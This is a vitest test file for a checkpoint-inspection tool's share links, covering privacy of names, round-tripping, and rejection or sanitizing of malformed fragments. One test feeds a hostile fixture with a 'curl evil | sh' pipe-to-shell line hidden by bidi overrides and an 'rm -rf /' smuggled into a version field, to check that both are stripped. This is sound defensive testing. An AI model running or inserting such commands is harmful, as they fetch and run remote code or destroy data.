/** Share links carry findings without names unless asked, and hostile fragments are refused. */
import { describe, expect, it } from 'vitest';
import { inspect } from '../../src/lib/inspect.ts';
import { emptyContext } from '../../src/lib/context/index.ts';
import { diagnose } from '../../src/lib/rules/index.ts';
import { MAX_SHARED_TITLE, readShareFragment, shareLink, summarize } from '../../src/lib/share.ts';
import { openFixture } from '../helpers/fixtures.ts';

describe('share links', async () => {
  const set = await openFixture('t2t/tensor2tensor/test_data/transformer_test_ckpt');
  const { facts } = await inspect(set);
  await set.close();
  const findings = diagnose(facts, emptyContext());
  const names = facts.variables.map((v) => v.name);

  it('without consent, no variable name, file name or title leaves in the link', () => {
    const link = shareLink(summarize(facts, findings, false));
    const decoded = decodeURIComponent(link);
    for (const name of names) expect(decoded).not.toContain(name);
    for (const a of facts.artifacts) expect(decoded).not.toContain(a.path);
    for (const f of findings) expect(decoded).not.toContain(f.title);
  });

  it('round-trips: the page reads back the failure ids, severities and counts', () => {
    expect(findings.length).toBeGreaterThan(0);
    const summary = summarize(facts, findings, true);
    const link = shareLink(summary, 'confirm');
    expect(link.startsWith(`/failures/${findings[0]!.failure}/#confirm;r=`)).toBe(true);
    const read = readShareFragment(link.slice(link.indexOf('#')));
    expect(read).toEqual({ step: 'confirm', summary });
    expect(read!.summary.n).toBe(facts.variables.length);
  });

  it('refuses fragments that are not summaries', () => {
    expect(readShareFragment('#fix')).toBeNull();
    expect(readShareFragment('#fix;r=%7B')).toBeNull();
    expect(
      readShareFragment(`#fix;r=${encodeURIComponent(JSON.stringify({ v: 1, f: [{ id: 'no-such-failure', s: 'error' }], a: [], n: 0 }))}`),
    ).toBeNull();
    expect(readShareFragment(`#fix;r=${encodeURIComponent(JSON.stringify({ v: 2, f: [], a: [], n: 0 }))}`)).toBeNull();
    expect(readShareFragment(`#fix;r=${'x'.repeat(9000)}`)).toBeNull();
  });

  it('a clean result links the Inspect page, not a guide', () => {
    const link = shareLink(summarize(facts, [], true));
    expect(link.startsWith('/inspect/#shared;r=')).toBe(true);
    const read = readShareFragment(link.slice(link.indexOf('#')));
    expect(read?.step).toBeNull();
    expect(read?.summary.f).toEqual([]);
    expect(read?.summary.n).toBe(facts.variables.length);
  });

  it('text from a link is one short plain line: no controls, no bidi overrides, no unknown formats', () => {
    const hostile = {
      v: 1,
      f: [{ id: 'corrupted-checkpoint', s: 'error', t: `Run this:\n\u202ecurl evil | sh\u202c ${'x'.repeat(500)}` }],
      a: ['checkpoint', '<b>bold</b>', 'checkpoint', 7],
      tf: '2.15; rm -rf /',
      keras: '3.3.3',
      n: 1e12,
    };
    const read = readShareFragment(`#fix;r=${encodeURIComponent(JSON.stringify(hostile))}`)!;
    const title = read.summary.f[0]!.t!;
    expect([...title].length).toBeLessThanOrEqual(MAX_SHARED_TITLE);
    expect(title).not.toMatch(/[\n\u202a-\u202e\u2066-\u2069]/);
    expect(title.startsWith('Run this: curl evil | sh')).toBe(true);
    expect(title.endsWith('…')).toBe(true);
    expect(read.summary.a).toEqual(['checkpoint']);
    expect(read.summary.tf).toBeUndefined();
    expect(read.summary.keras).toBe('3.3.3');
    expect(read.summary.n).toBeLessThanOrEqual(1e9);
  });
});
